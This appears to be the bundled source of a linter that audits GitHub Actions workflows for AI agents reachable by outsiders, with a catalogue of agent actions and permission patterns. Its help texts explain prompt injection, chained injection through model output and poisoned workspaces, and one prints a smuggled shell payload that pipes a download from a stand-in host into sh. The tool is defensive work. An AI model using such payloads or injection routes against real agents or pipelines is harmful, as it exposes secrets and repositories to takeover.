  if (inherited === "inherit") secrets.push({ name: "*", via: "secrets: inherit from the caller", modelKey: false });
  if (tools.shell === "full" && !isSelfHosted(step)) {
    const known = new Set(secrets.map((s) => s.name));
    for (const other of step.job.steps) {
      for (const name of stepSecrets(other)) {
        if (known.has(name)) continue;
        known.add(name);
        secrets.push({ name, via: `the runner's memory (used by step '${other.step.label}')`, modelKey: MODEL_KEY_NAME.test(name) });
      }
    }
    tokens.push({ via: "the runner's memory (a shell with sudo reads the job's GITHUB_TOKEN)", foreign: false });
  }
  const cloud = cloudLogins(step);
  const persisted = persistedCheckout(step);
  if (persisted) tokens.push({ via: "credentials persisted in .git/config by actions/checkout", foreign: false });
  const perms = writeScopesOf(step.job.permissions);
  const keyInProcess = agent.keyInProcess ?? true;
  return {
    secrets: jailed ? [] : secrets,
    tokens: jailed ? [] : tokens,
    writeScopes: perms.scopes,
    permissionsDefault: perms.isDefault,
    idToken: perms.idToken && !jailed,
    cloudCredentials: jailed ? [] : cloud,
    selfHosted: isSelfHosted(step),
    persistedCredentials: persisted && !jailed,
    tools: jailed ? { ...tools, network: false } : tools,
    keyInProcess: keyInProcess && !jailed,
    jailed
  };
}
function stepSecrets(step) {
  const out = [];
  const nodes = [...step.step.with.map((w) => w.value), ...step.step.env.map((e) => e.value), step.step.run];
  for (const n of nodes) out.push(...secretRefs(n).secrets);
  return out.filter((s) => s !== "*" && s !== "GITHUB_TOKEN");
}
function framesOf(step) {
  const out = [];
  for (let f = step.frame; f; f = f.callerStep.frame) out.push(f.callerStep);
  return out;
}
function isSelfHosted(step) {
  const labels = step.job.job.runsOn;
  if (!labels.length) return false;
  if (labels.some((l) => l.includes("${{"))) return false;
  return labels.some((l) => /self-hosted/i.test(l)) || !labels.some((l) => HOSTED_RUNNER.test(l));
}
var CLOUD_LOGINS = [
  { uses: /^google-github-actions\/auth@/i, leaves: "GCP credentials (gha-creds-*.json in the workspace, GOOGLE_APPLICATION_CREDENTIALS)" },
  { uses: /^aws-actions\/configure-aws-credentials@/i, leaves: "AWS credentials (AWS_ACCESS_KEY_ID/AWS_SESSION_TOKEN in the environment)" },
  { uses: /^azure\/login@/i, leaves: "Azure credentials (the az CLI token cache in HOME)" }
];
function cloudLogins(step) {
  const out = [];
  const own = step.step.with.find((w) => /workload_identity_provider|workload-identity-provider|role-to-assume/i.test(w.name) && w.text.trim());
  if (own) out.push(`cloud credentials minted by this step (input ${own.name})`);
  for (const s of step.job.steps) {
    if (s.position >= step.position) break;
    const hit = CLOUD_LOGINS.find((c) => c.uses.test(s.step.uses?.text ?? ""));
    if (hit && !out.includes(hit.leaves)) out.push(hit.leaves);
  }
  return out;
}
function persistedCheckout(step) {
  return step.job.steps.some((s) => {
    if (s.position >= step.position) return false;
    if (!/^actions\/checkout@/i.test(s.step.uses?.text ?? "")) return false;
    const persist = inputOf(s.step.with, "persist-credentials")?.text;
    return persist === void 0 || !/^false$/i.test(persist.trim());
  });
}
function describeCapabilities(c) {
  const out = [];
  if (c.jailed) out.push("jailed:agent-guard-run");
  for (const s of c.secrets) out.push(`secret:${s.name}${s.modelKey ? " (model key)" : ""} via ${s.via}`);
  for (const t of c.tokens) out.push(`github-token:${t.foreign ? "pat-or-app-token" : "GITHUB_TOKEN"} via ${t.via}`);
  if (c.permissionsDefault) out.push("permissions:default (write-all where the repository default is permissive)");
  else for (const s of c.writeScopes) out.push(`permission:${s}:write`);
  if (c.idToken) out.push("permission:id-token:write (OIDC)");
  for (const cloud of c.cloudCredentials) out.push(`cloud:${cloud}`);
  if (c.selfHosted) out.push("runner:self-hosted");
  else if (c.tools.shell === "full" && !c.jailed) out.push("actions-cache:write (poisons caches that release workflows restore)");
  if (c.tools.shell !== "none") out.push(`shell:${c.tools.shell}`);
  if (c.tools.network) out.push("network:unrestricted");
  if (c.tools.writesFiles) out.push("writes-files");
  if (c.keyInProcess && c.secrets.some((s) => s.modelKey)) out.push("model-key-in-agent-process");
  return out;
}

// src/checks/common.ts
var CONFIDENCE_ORDER = { low: 0, medium: 1, high: 2 };
function worstTaint(site, channels) {
  let best = null;
  for (const channel of channels) {
    for (const taint of channel.taints) {
      const reach = reachOf(taint.origin, site.step, site.actorGate);
      if (reach.level === "none") continue;
      const candidate = { channel, taint, reach };
      if (!best || better(candidate, best)) best = candidate;
    }
  }
  return best;
}
function better(a, b) {
  const r = REACH_ORDER[a.reach.level] - REACH_ORDER[b.reach.level];
  if (r) return r > 0;
  const c = CONFIDENCE_ORDER[a.channel.confidence] - CONFIDENCE_ORDER[b.channel.confidence];
  if (c) return c > 0;
  return a.taint.hops.length < b.taint.hops.length;
}
function confidenceOf(hit) {
  if (hit.reach.uncertain && hit.channel.confidence === "high") return "medium";
  return hit.channel.confidence;
}
function siteLocation(site) {
  const pos = positionOf(site.file, site.offset);
  return { file: site.file.path, line: pos.line, column: pos.column };
}
function stepLocation(step, offset) {
  const pos = positionOf(step.file, offset);
  return { file: step.file.path, line: pos.line, column: pos.column };
}
function jobAndStep(step) {
  return { job: step.job.job.id, step: step.step.label, stepAt: stepAnchor(step.file, step.step) };
}
var IDENTIFYING_KEYS = /* @__PURE__ */ new Set(["name", "id", "uses", "run"]);
function stepAnchor(file, step) {
  const lines = [step.node.start, ...step.node.pairs.filter((p) => IDENTIFYING_KEYS.has(p.key.text)).map((p) => p.key.start)].map((offset) => positionOf(file, offset).line);
  return { file: file.path, position: step.index + 1, lines: [...new Set(lines)].sort((a, b) => a - b) };
}
function pathOf(site, hit, sinkNote) {
  const loc2 = siteLocation(site);
  return [...site.step.job.via, ...hit.taint.hops, { ...loc2, note: sinkNote }];
}
function severityOf(hit, caps) {
  return severityFor(hit.reach.level, caps);
}
function capabilityList(caps) {
  return describeCapabilities(caps);
}
var PROVIDER_BY_KEY = { anthropic: "anthropic", openai: "openai", gemini: "gemini" };
function fixFor(site, hit) {
  const lines = [];
  const event = hit?.reach.trigger?.event;
  const obj2 = gateObject(event);
  const c = site.capabilities;
  if (hit && !c.jailed && (hit.reach.level === "outsider" || hit.reach.level === "outsider-unprivileged")) {
    if (obj2) {
      lines.push(
        `Gate the job on who wrote the text: \`if: contains(fromJSON('["OWNER","MEMBER","COLLABORATOR"]'), github.event.${obj2}.author_association)\`.`
      );
    } else {
      lines.push("Do not run the agent on events outsiders can fire, or gate the job on the actor's write access.");
    }
  }
  const w = site.gateWidenedBy;
  if (w && !w.inertWithout) lines.push(`Remove \`${w.input}: ${w.value}\` so the action's own write-access check applies.`);
  if (w?.inertWithout) lines.push(`Remove \`${w.input}: ${w.value}\`: it opens the agent to outsiders as soon as \`${w.inertWithout}\` is set.`);
  if (c.jailed) {
    lines.push(
      "The agent runs in the jail and holds nothing; what remains is what its output and its writes to the workspace can steer: treat them as untrusted, and let a job without AI check them (an allowlist, a schema) before anything acts on them (see poisoned-workspace and ai-output-unsafe)."
    );
  }
  if (c.writeScopes.length || c.idToken) {
    lines.push("Give the agent job `permissions: { contents: read }` (no id-token), and let a separate job without AI validate the agent's output (a JSON schema, an allowlist of labels) and do the writes.");
  }
  if (c.tokens.some((t) => t.foreign)) lines.push("Do not hand the agent a personal access token or App token; use the job's short-lived GITHUB_TOKEN with read permissions.");
  if (c.persistedCredentials) lines.push("Set `persist-credentials: false` on actions/checkout.");
  if (c.secrets.some((s) => !s.modelKey)) lines.push(`Move secrets the agent does not need (${c.secrets.filter((s) => !s.modelKey).map((s) => s.name).join(", ")}) out of its job.`);
  const provider = providerFor(site);
  if (site.cli && !c.jailed) {
    lines.push(`Run it in the jail: \`agent-guard run${provider ? ` --provider ${provider}` : ""} -- ${site.cli.commands[0]} ...\` (no secrets, no network but the model API, the key held by a proxy).`);
  } else if (site.action) {
    if (c.jailed) {
    } else if (site.action.id.startsWith("claude-code-action")) {
      lines.push("Run Claude Code in the jail: `agent-guard wrap claude` installs a wrapper; set `path_to_claude_code_executable` to it.");
    } else if (site.action.cli) {
      lines.push(`Replace the action with its CLI under the jail: \`agent-guard run${provider ? ` --provider ${provider}` : ""} -- ${site.action.cli} ...\`.`);
    }
  }
  if (hit && !c.jailed && (hit.channel.kind === "prompt" || hit.channel.kind === "script" || hit.channel.kind === "env")) {
    lines.push("Pass outsider text as data the agent reads with no tools that matter, never as instructions: moving it into env: protects a shell, not a prompt.");
  }
  return lines.join(" ");
}
function providerFor(site) {
  const p = site.cli?.provider;
  if (p) return p;
  return site.action?.cli ? PROVIDER_BY_KEY[site.action.cli] : void 0;
}
function gateObject(event) {
  switch (event) {
    case "issues":
      return "issue";
    case "issue_comment":
    case "discussion_comment":
    case "pull_request_review_comment":
      return "comment";
    case "pull_request_target":
    case "pull_request":
      return "pull_request";
    case "pull_request_review":
      return "review";
    case "discussion":
      return "discussion";
    default:
      return null;
  }
}
function describeReach(hit) {
  switch (hit.reach.level) {
    case "outsider":
      return hit.reach.how;
    case "outsider-unprivileged":
      return `${hit.reach.how} (from a fork: no secrets, read-only token)`;
    case "maintainer":
    case "action-gated":
      return hit.reach.how;
    default:
      return "not reachable";
  }
}

// src/checks/agentGateDisabled.ts
var agentGateDisabled = {
  meta: {
    id: "agent-gate-disabled",
    title: "An agent action's built-in write-access check is switched off",
    severity: "high",
    docs: docsUrl("agent-gate-disabled"),
    help: 'claude-code-action, droid-action, codex-action and opencode refuse to run for users without write access unless an input opens them (`allowed_non_write_users: "*"`, `allowed_bots: "*"`, `allow-users: "*"`). On a trigger outsiders can fire, that input hands the agent, and everything it holds, to anyone who can open an issue. Remove the input, or keep it only on a job that holds nothing.'
  },
  run(ctx) {
    const findings = [];
    for (const site of ctx.sites) {
      const widened = site.gateWidenedBy;
      if (!widened) continue;
      const reach = reachOf(TRIGGERING_ACTOR, site.step);
      if (reach.level !== "outsider") continue;
      const openToAnyone = widened.value.trim() === "*" || widened.effect === "anyone";
      const holding = holdingOf(site.capabilities);
      let severity = holding === "nothing" ? "medium" : "high";
      if (widened.effect === "bots" || !/^\*$/.test(widened.value.trim())) severity = holding === "nothing" ? "low" : "medium";
      if (widened.inertWithout) severity = "low";
      const at = widened.node?.start ?? site.offset;
      findings.push({
        rule: "agent-gate-disabled",
        severity,
        confidence: "high",
        ...stepLocation(site.step, at),
        ...jobAndStep(site.step),
        message: widened.inertWithout ? `\`${widened.input}: ${widened.value.trim()}\` would switch off ${site.agentName}'s write-access check, and does as soon as \`${widened.inertWithout}\` is set: ${reach.how}.` : `\`${widened.input}: ${widened.value.trim()}\` switches off ${site.agentName}'s write-access check${openToAnyone ? "" : " for the listed users or bots"}: ${reach.how}.`,
        path: [],
        capabilities: capabilityList(site.capabilities),
        fix: fixFor(site, null)
      });
    }
    return findings;
  }
};

// src/checks/agentOutputLeak.ts
var TRANSCRIPTS = /\.claude\/projects|\.claude\b|\.gemini\/tmp|\.codex\/sessions|\.codex\b|transcript|session[-_ ]?log|\.opencode|\.goose/i;
var agentOutputLeak = {
  meta: {
    id: "agent-output-leak",
    title: "An outsider-reachable agent's full output or transcripts are published",
    severity: "medium",
    docs: docsUrl("agent-output-leak"),
    help: "Workflow logs, step summaries and artifacts of a public repository are public. Inputs like claude-code-action's `show_full_output`, run-gemini-cli's `gemini_debug` and `upload_artifacts`, or an upload of the agent's session folder, publish everything the agent saw and did \u2014 a hijacked agent only has to read a secret to publish it, since secret masking covers only values GitHub knows. Leave these off on jobs outsiders can trigger, and upload only the structured result the next job needs."
  },
  run(ctx) {
    const findings = [];
    for (const site of ctx.sites) {
      const reach = reachOf(TRIGGERING_ACTOR, site.step, site.actorGate);
      if (reach.level !== "outsider" && reach.level !== "maintainer") continue;
      for (const leak of leaks(site)) {
        findings.push({
          rule: "agent-output-leak",
          severity: reach.level === "outsider" && !site.capabilities.jailed ? "medium" : "low",
          confidence: "medium",
          ...stepLocation(leak.step, leak.offset),
          ...jobAndStep(leak.step),
          message: `${leak.what} of ${site.agentName} (step '${site.step.step.label}'): ${reach.how}.`,
          path: [],
          capabilities: capabilityList(site.capabilities),
          fix: "Turn it off on jobs outsiders can reach; publish only a validated, structured result."
        });
      }
    }
    return findings;
  }
};
function leaks(site) {
  const out = [];
  for (const name of site.action?.leakInputs ?? []) {
    const entry = inputOf(site.step.step.with, name);
    const value = entry?.text.trim().toLowerCase() ?? "";
    if (entry && value && value !== "false" && value !== "0" && value !== "manual" && value !== "disabled") {
      out.push({ step: site.step, offset: entry.value.start, what: `\`${entry.name}: ${entry.text.trim()}\` publishes the output` });
    }
  }
  for (const later of site.step.job.steps) {
    if (later.position <= site.step.position || !/^actions\/upload-artifact@/i.test(later.step.uses?.text ?? "")) continue;
    const path14 = inputOf(later.step.with, "path");
    if (path14 && TRANSCRIPTS.test(path14.text)) {
      out.push({ step: later, offset: path14.value.start, what: `step '${later.step.label}' uploads the session transcripts (${path14.text.trim()})` });
    }
  }
  return out;
}

// src/checks/siteRule.ts
function siteRule(meta, origins2, message, sinkNote) {
  return {
    meta,
    run(ctx) {
      const findings = [];
      for (const site of ctx.sites) {
        const channels = site.channels.map((c) => ({ ...c, taints: c.taints.filter((t) => origins2.includes(t.origin.kind)) })).filter((c) => c.taints.length);
        const hit = worstTaint(site, channels);
        if (!hit) continue;
        const severity = severityOf(hit, site.capabilities);
        if (!severity) continue;
        findings.push({
          rule: meta.id,
          severity,
          confidence: confidenceOf(hit),
          ...siteLocation(site),
          ...jobAndStep(site.step),
          message: `${message(site, hit)}: ${describeReach(hit)}.`,
          path: pathOf(site, hit, `${sinkNote} (${hit.channel.name})`),
          related: relatedSources(site, channels, hit),
          capabilities: capabilityList(site.capabilities),
          fix: fixFor(site, hit)
        });
      }
      return findings;
    }
  };
}
function relatedSources(site, channels, chosen) {
  const out = [];
  const seen = /* @__PURE__ */ new Set([key(chosen.taint.hops[0])]);
  for (const channel of channels) {
    for (const taint of channel.taints) {
      const first = taint.hops[0];
      if (!first || seen.has(key(first))) continue;
      if (reachOf(taint.origin, site.step, site.actorGate).level === "none") continue;
      seen.add(key(first));
      out.push(first);
    }
  }
  return out.slice(0, 20);
}
function key(h) {
  return h ? `${h.file}:${h.line}:${h.column}` : "";
}

// src/checks/agentReadsUntrusted.ts
var agentReadsUntrusted = siteRule(
  {
    id: "agent-reads-untrusted",
    title: "An AI agent fetches outsider-written issues, comments or pull requests itself",
    severity: "critical",
    docs: docsUrl("agent-reads-untrusted"),
    help: "The agent fetches the issue or pull-request thread (or is told to, e.g. `gh issue view`, GitHub MCP tools), so text written by anyone reaches it even though the workflow interpolates nothing. A scheduled agent that reads open issues is reachable by every outsider, one hour later. Treat the agent as holding untrusted input: no secrets, no write token, no shell, and run it under `agent-guard run`."
  },
  ["thread", "fetch"],
  (site, hit) => `${site.agentName} reads ${hit.taint.origin.what}`,
  "the agent reads it at run time"
);

// src/checks/templateInjection.ts
function codeSinks(step) {
  const out = [];
  if (step.step.run) out.push({ node: step.step.run, what: "the run script" });
  if (/^actions\/github-script@/i.test(step.step.uses?.text ?? "")) {
    const script = inputOf(step.step.with, "script");
    if (script?.value.kind === "scalar") out.push({ node: script.value, what: "the github-script script" });
  }
  return out;
}
function sinkTaints(step, node, engine) {
  return engine.templates(node.text, (o, l) => locateInScalar(step.file, node, o, l), step.file, { job: step.job, step });
}
var templateInjection = {
  meta: {
    id: "template-injection",
    title: "Outsider-controlled text is expanded into a shell script",
    severity: "critical",
    docs: docsUrl("template-injection"),
    help: '`${{ }}` is expanded before the shell runs, so text like an issue title becomes code: `a"; curl evil | sh; echo "`. The script runs with every secret and token of the job. Pass the value through `env:` and use `"$VAR"` in the script.'
  },
  run(ctx) {
    const findings = [];
    for (const step of ctx.steps) {
      for (const sink2 of codeSinks(step)) {
        for (const taint of sinkTaints(step, sink2.node, ctx.engine)) {
          if (taint.origin.kind === "ai-output") continue;
          const reach = reachOf(taint.origin, step);
          const caps = shellCapabilities(step);
          const severity = severityFor(reach.level, caps);
          if (!severity) continue;
          const sink3 = taint.hops[taint.hops.length - 1];
          findings.push({
            rule: "template-injection",
            severity,
            confidence: taint.hops.some((h) => h.note.startsWith("assumed")) ? "low" : "high",
            file: sink3.file,
            line: sink3.line,
            column: sink3.column,
            ...jobAndStep(step),
            message: `${taint.origin.what} is expanded into ${sinkLabel(step)}: ${reach.how}.`,
            path: [...step.job.via, ...taint.hops],
            capabilities: capabilityList(caps),
            holder: "step",
            fix: 'Move the value into `env:` (e.g. `env: { TITLE: ${{ github.event.issue.title }} }`) and use "$TITLE" in the script, quoted.'
          });
        }
      }
    }
    return findings;
  }
};
function sinkLabel(step) {
  return step.step.run ? `the run script of step '${step.step.label}'` : `the github-script of step '${step.step.label}'`;
}

// src/checks/aiOutputUnsafe.ts
var MERGE = /\bgh\s+pr\s+(merge|review\b[^\n]*--approve)|pulls\.(merge|createReview)|enablePullRequestAutoMerge|auto-merge|--admin\b/;
var aiOutputUnsafe = {
  meta: {
    id: "ai-output-unsafe",
    title: "A model's output is used as code, as another agent's prompt, or to decide a merge",
    severity: "critical",
    docs: docsUrl("ai-output-unsafe"),
    help: "Whoever steers the model's input steers its output. Expanding `${{ steps.ai.outputs.response }}` into a script turns a prompt injection into a command injection; feeding it to another agent chains the injection; letting it decide a merge or approval lets the outsider approve their own change. Pass model output through `env:` and treat it as data: validate it against a schema or an allowlist in a step without AI."
  },
  run(ctx) {
    const findings = [];
    for (const step of ctx.steps) {
      let reachCache;
      const reachOfStep = () => reachCache ??= reachOf(TRIGGERING_ACTOR, step);
      for (const sink2 of codeSinks(step)) {
        for (const taint of sinkTaints(step, sink2.node, ctx.engine)) {
          if (taint.origin.kind !== "ai-output") continue;
          const reach2 = reachOfStep();
          if (reach2.level === "none") continue;
          const caps = shellCapabilities(step);
          findings.push({ ...finding(step, taint, severityFor(reach2.level, caps) ?? "medium", `${taint.origin.what} is expanded into ${sink2.what} of step '${step.step.label}'`, reach2.how, capabilityList(caps)), holder: "step" });
        }
      }
      const decides = step.step.run && MERGE.test(step.step.run.text) || MERGE.test(step.step.with.map((w) => w.text).join("\n"));
      const reach = decides ? reachOfStep() : void 0;
      if (decides && reach && reach.level !== "none") {
        const inputs = [
          ...step.conditions.map((c) => c.node),
          ...step.job.conditions.map((c) => c.node)
        ];
        for (const node of inputs) {
          const taints = ctx.engine.ofScalar(node, step.file, { job: step.job, step }).filter((t) => t.origin.kind === "ai-output");
          for (const taint of taints.slice(0, 1)) {
            findings.push(finding(step, taint, reach.level === "outsider" ? "high" : "medium", `${taint.origin.what} decides whether step '${step.step.label}' merges or approves`, reach.how, []));
          }
        }
      }
    }
    for (const site of ctx.sites) {
      const reach = reachOf(TRIGGERING_ACTOR, site.step, site.actorGate);
      if (reach.level === "none") continue;
      for (const channel of site.channels) {
        if (channel.kind !== "prompt" && channel.kind !== "config") continue;
        const taint = channel.taints.find((t) => t.origin.kind === "ai-output");
        if (!taint) continue;
        const loc2 = siteLocation(site);
        findings.push({
          ...finding(site.step, taint, reach.level === "outsider" ? "high" : "medium", `${taint.origin.what} becomes the ${channel.name} of ${site.agentName}`, reach.how, capabilityList(site.capabilities)),
          ...loc2,
          path: [...taint.hops, { ...loc2, note: "the second agent reads it as instructions" }]
        });
      }
    }
    return findings;
  }
};
function finding(step, taint, severity, message, how, capabilities) {
  const sink2 = taint.hops[taint.hops.length - 1];
  return {
    rule: "ai-output-unsafe",
    severity,
    confidence: "high",
    file: sink2.file,
    line: sink2.line,
    column: sink2.column,
    ...jobAndStep(step),
    message: `${message}: ${how}.`,
    path: [...step.job.via, ...taint.hops],
    capabilities,
    fix: 'Pass the output through `env:` (`env: { ANSWER: ${{ steps.ai.outputs.response }} }`, then "$ANSWER") and validate it in a step without AI: parse it as JSON against a schema, intersect labels with an allowlist, never let it decide a merge.'
  };
}

// src/checks/poisonedWorkspace.ts
var EXECUTES_OR_PUBLISHES = /(^|[\s;&|(])(npm|npx|yarn|pnpm|bun|node|make|pip3?|python3?|poetry|tox|pytest|go|cargo|mvn|gradle|\.\/gradlew|rake|bundle|dotnet|docker\s+(build|push)|twine|gem\s+push|git\s+(commit|push)|gh\s+(release|pr\s+create)|\.\/[\w./-]+)(\s|$)/m;
var poisonedWorkspace = {
  meta: {
    id: "poisoned-workspace",
    title: "Steps after an outsider-reachable agent run or publish what the agent could write",
    severity: "critical",
    docs: docsUrl("poisoned-workspace"),
    help: "An agent that read outsider text can write files in the workspace (package.json scripts, Makefiles, .git/hooks, lockfiles, source). Later steps of the same job that build, test, commit, push or publish run those files with the job's secrets \u2014 even when the agent itself was jailed. Run the agent in its own job and hand its result to the next job as a validated artifact (a patch reviewed by a human, JSON checked against a schema), or run it with `agent-guard run --workspace ro`."
  },
  run(ctx) {
    const findings = [];
    for (const site of ctx.sites) {
      if (!site.capabilities.tools.writesFiles && site.capabilities.tools.shell === "none") continue;
      if (site.cli && /--workspace[=\s]+ro\b/.test(site.promptText) && site.capabilities.jailed) continue;
      const reach = bestReach(site);
      if (!reach) continue;
      const later = site.step.job.steps.filter((s) => s.position > site.step.position && executesOrPublishes(s));
      for (const step of later) {
        const caps = shellCapabilities(step);
        const severity = reach.level === "outsider" ? caps.secrets.some((s) => !s.modelKey) || caps.writeScopes.length ? "critical" : "high" : "medium";
        const at = step.step.run?.start ?? step.step.uses?.start ?? step.step.node.start;
        findings.push({
          rule: "poisoned-workspace",
          severity,
          confidence: "medium",
          ...stepLocation(step, at),
          ...jobAndStep(step),
          message: `step '${step.step.label}' runs or publishes the workspace after ${site.agentName} (step '${site.step.step.label}') could write to it: ${reach.how}.`,
          path: [{ ...siteLocation(site), note: `${site.agentName} reads outsider text and can write files` }, { ...stepLocation(step, at), note: "a later step executes or publishes the workspace" }],
          capabilities: capabilityList(caps),
          holder: "step",
          fix: "Move the agent to its own job (no secrets) and pass its result as an artifact the next job validates; or run it with `agent-guard run --workspace ro`. Never build, commit or publish in the agent's job after it ran."
        });
      }
    }
    return findings;
  }
};
function bestReach(site) {
  let best = null;
  for (const channel of site.channels) {
    for (const taint of channel.taints) {
      const reach = reachOf(taint.origin, site.step, site.actorGate);
      if (reach.level === "none" || reach.level === "action-gated" || reach.level === "outsider-unprivileged") continue;
      if (!best || REACH_ORDER[reach.level] > REACH_ORDER[best.level]) best = reach;
    }
  }
  return best;
}
function executesOrPublishes(step) {
  const uses = step.step.uses?.text ?? "";
  if (uses.startsWith("./")) return true;
  if (/^(softprops\/action-gh-release|peter-evans\/create-pull-request|stefanzweifel\/git-auto-commit-action|pypa\/gh-action-pypi-publish|JS-DevTools\/npm-publish)@/i.test(uses)) return true;
  const run = step.step.run?.text;
  return !!run && EXECUTES_OR_PUBLISHES.test(run);
}

// src/checks/promptInjection.ts
var promptInjection = siteRule(
  {
    id: "prompt-injection",
    title: "Outsider-controlled text reaches an AI agent",
    severity: "critical",
    docs: docsUrl("prompt-injection"),
    help: "Text that anyone on the internet can write (an issue title, a comment, a branch name) reaches the prompt, configuration or environment of an AI agent. The agent cannot tell instructions from data, so the author of that text steers it and can use whatever the agent holds: secrets, the GitHub token, a shell, the network. Gate the job on the author, take every secret and write permission away from the agent job, and run the agent under `agent-guard run`."
  },
  ["context"],
  (site, hit) => `${hit.taint.origin.what} reaches ${site.agentName} through ${hit.channel.name}`,
  "the agent reads it"
);

// src/analysis/rulesData.ts
var import_yaml5 = __toESM(require_dist());

// rules/agents.yml
var agents_default = `# AI agents as they appear in GitHub Actions workflows: agent actions (\`uses:\`) and agent CLIs (\`run:\`).
# Shape: AgentsFile in src/analysis/ruleTypes.ts; validated at load time by src/analysis/rulesData.ts.
# Source of truth: ../shared/research/agent-catalogue.md (section numbers below refer to it), plus CodeQL's
# prompt-injection sink model (linter-anchors.md \xA74.2). \`confidence\` keeps the catalogue's tags:
#   V  verified in source   D  official docs only   3P  third-party source only   U  uncertain/inferred.
#
# Conventions
# - Input names are written as the action declares them. GitHub matches \`with:\` keys case-insensitively.
# - Every \`pattern\` is a JavaScript regular expression source, matched case-insensitively against the
#   whole input value (or, for CLIs, a flag's value or an environment variable's value). No nested
#   quantifiers (the loader rejects them): the linter runs over thousands of workflows.
# - Tool reach = \`defaults\`, then every matching widener raises fields, then every matching narrower
#   lowers them (a narrower wins over a widener: \`--disallowedTools Bash\` beats \`--allowedTools Bash\`,
#   as in Claude Code, where deny rules win).
# - \`shell: full\` means the model can run arbitrary commands; \`restricted\` means an allowlist of
#   commands; \`network\` means tools that reach hosts other than the model API (web fetch/search, MCP).
#
# Reused pattern fragments (written out in full where used, since YAML aliases cannot splice strings):
#   ALLOWED = --allowed-?tools(?:\\s*=\\s*|\\s+)["']?(?:(?!\\s-)[^\\n"'])*?
#             the value of --allowedTools / --allowed-tools up to the next \` -\` flag or closing quote
#   BASH_FULL = (?<![\\w(])Bash(?:\\(\\s*:?\\*?\\s*\\)|(?![\\w(]))    bare \`Bash\`, \`Bash()\`, \`Bash(*)\`, \`Bash(:*)\`
#   BASH_SHELL = (?<![\\w(])Bash\\((?:(?:ba|z|da|k)?sh|python3?|node|perl|ruby|env|eval|xargs|npx|bunx|uvx|deno)\\b
#             an allowlist entry that is itself an interpreter: as good as a full shell
#   BASH_SOME = (?<![\\w(])Bash\\(                               a parenthesised restriction

actions:
  # ---------------------------------------------------------------------------------------------------
  # A1. anthropics/claude-code-action (v1 and the v0/beta inputs)
  - id: claude-code-action
    name: Claude Code Action
    uses: [anthropics/claude-code-action]
    cli: claude
    # v1: prompt. v0/beta (v0.0.1-v0.0.63): direct_prompt, override_prompt, custom_instructions.
    promptInputs: [prompt, direct_prompt, override_prompt, custom_instructions]
    # trigger_phrase etc. only select when to run; these reach the model or its configuration.
    configInputs:
      - claude_args
      - settings
      - plugins
      - plugin_marketplaces
      - path_to_claude_code_executable
      - additional_permissions
      - allowed_tools      # v0
      - disallowed_tools   # v0
      - mcp_config         # v0.0.13-v1.0.0
      - claude_env         # v0
      - model
      - anthropic_model
      - fallback_model
    keyInputs: [anthropic_api_key, claude_code_oauth_token]
    tokenInputs: [github_token]
    # The whole process.env (ANTHROPIC_API_KEY included) is passed to Claude (base-action parse-sdk-options.ts).
    keyHandling: process
    gate:
      kind: write-access
      # "GitHub itself requires write access to dispatch" (docs/security.md); no check on these events.
      skippedOn: [workflow_dispatch, repository_dispatch, schedule]
      wideners:
        - input: allowed_non_write_users   # \`*\` or a list; v1.0.6+
          effect: anyone
          requiresInput: github_token      # ignored unless github_token is passed (githubTokenProvided)
        - input: allowed_bots              # v0.0.55+; \`*\` = any bot/App
          effect: bots
    # Tag mode (no \`prompt\`) fetches title, body, comments, reviews, commit messages itself. v0 always
    # built its prompt from the thread, even with direct_prompt; only the v1 \`prompt\` switches it off.
    readsThread: without-prompt
    agentModeInputs: [prompt]
    # Tag mode: --permission-mode acceptEdits plus Read/Glob/Grep/LS and Bash(git add|commit|push|rm:*)
    # (git only, counted as file writes). Agent mode: only what claude_args/settings allow. No Bash.
    defaults: { shell: none, network: false, writesFiles: true }
    toolWideners:
      - input: claude_args
        pattern: '--dangerously-skip-permissions\\b'
        grants: { shell: full, network: true, writesFiles: true }
      # \`dontAsk\` denies everything not pre-approved, \`plan\` is read-only: neither widens.
      - input: claude_args
        pattern: '--permission-mode(?:\\s*=\\s*|\\s+)["'']?(?:bypassPermissions|auto)\\b'
        grants: { shell: full, network: true, writesFiles: true }
      - input: claude_args
        pattern: '--allowed-?tools(?:\\s*=\\s*|\\s+)["'']?(?:(?!\\s-)[^\\n"''])*?(?<![\\w(])Bash(?:\\(\\s*:?\\*?\\s*\\)|(?![\\w(]))'
        grants: { shell: full }
      - input: claude_args
        pattern: '--allowed-?tools(?:\\s*=\\s*|\\s+)["'']?(?:(?!\\s-)[^\\n"''])*?(?<![\\w(])Bash\\((?:(?:ba|z|da|k)?sh|python3?|node|perl|ruby|env|eval|xargs|npx|bunx|uvx|deno)\\b'
        grants: { shell: full }
      - input: claude_args
        pattern: '--allowed-?tools(?:\\s*=\\s*|\\s+)["'']?(?:(?!\\s-)[^\\n"''])*?(?<![\\w(])Bash\\('
        grants: { shell: restricted }
      - input: claude_args
        pattern: '--allowed-?tools(?:\\s*=\\s*|\\s+)["'']?(?:(?!\\s-)[^\\n"''])*?(?<![\\w(])(?:WebFetch|WebSearch)\\b'
        grants: { network: true }
      - input: claude_args
        pattern: '--mcp-config\\b'
        grants: { network: true }
      - input: claude_args
        pattern: '--allowed-?tools(?:\\s*=\\s*|\\s+)["'']?(?:(?!\\s-)[^\\n"''])*?(?<![\\w(])(?:Edit|Write|MultiEdit|NotebookEdit)\\b'
        grants: { writesFiles: true }
      # acceptEdits also auto-approves mkdir/touch/mv/cp/rm/sed in the workspace: counted as file writes.
      - input: claude_args
        pattern: '--permission-mode(?:\\s*=\\s*|\\s+)["'']?acceptEdits\\b'
        grants: { writesFiles: true }
      # \`settings\` (JSON, or a path we cannot see) is merged into ~/.claude/settings.json.
      - input: settings
        pattern: '"defaultMode"\\s*:\\s*"(?:bypassPermissions|auto)"'
        grants: { shell: full, network: true, writesFiles: true }
      - input: settings
        pattern: '"allow"\\s*:\\s*\\[[^\\]]*"Bash(?:\\(\\s*:?\\*?\\s*\\))?"'
        grants: { shell: full }
      - input: settings
        pattern: '"allow"\\s*:\\s*\\[[^\\]]*"Bash\\('
        grants: { shell: restricted }
      - input: settings
        pattern: '"allow"\\s*:\\s*\\[[^\\]]*"(?:WebFetch|WebSearch)'
        grants: { network: true }
      - input: settings
        pattern: '"mcpServers"\\s*:|"enableAllProjectMcpServers"\\s*:\\s*true'
        grants: { network: true }
      - input: settings
        pattern: '"allow"\\s*:\\s*\\[[^\\]]*"(?:Edit|Write|MultiEdit|NotebookEdit)|"defaultMode"\\s*:\\s*"acceptEdits"'
        grants: { writesFiles: true }
      # v0 inputs: comma-separated tool lists.
      - input: allowed_tools
